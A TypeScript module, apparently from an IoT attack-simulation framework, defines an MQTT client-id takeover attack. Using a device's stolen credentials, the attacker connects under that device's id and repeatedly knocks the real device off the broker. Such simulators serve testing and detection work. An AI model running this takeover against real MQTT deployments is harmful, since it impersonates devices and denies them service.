import { z } from 'zod'
import { addressParam, defineAttack, rateParam, targetDevice } from './attack.ts'

/**
 * Client-id takeover: with a device's stolen credentials, connect under its client id from the
 * attacker's address; the broker drops the real device's session (MQTT 3.1.1 §3.1.4-2). When the
 * device reconnects and takes its id back, the attacker comes again, `rate` times a second at most.
 */
export const clientTakeoverAttack = defineAttack({
  type: 'client-takeover',
  summary: "take a live device's session over with its stolen credentials",
  params: z.object({ address: addressParam('203.0.113.110'), target: z.string().optional(), rate: rateParam(1) }).strict(),
  target: (params, registry) => targetDevice(registry, params.target).id,
  async run(attacker, params, durationMs) {
    const deviceId = attacker.entry.target!
    let holding = false
    await attacker.repeat(params.rate, durationMs, async () => {
      if (holding) return
      holding = true
      const client = await attacker.connectStolen(params.address, deviceId).catch(() => null)
      if (client) client.once('close', () => (holding = false))
      else holding = false
    })
  },
})
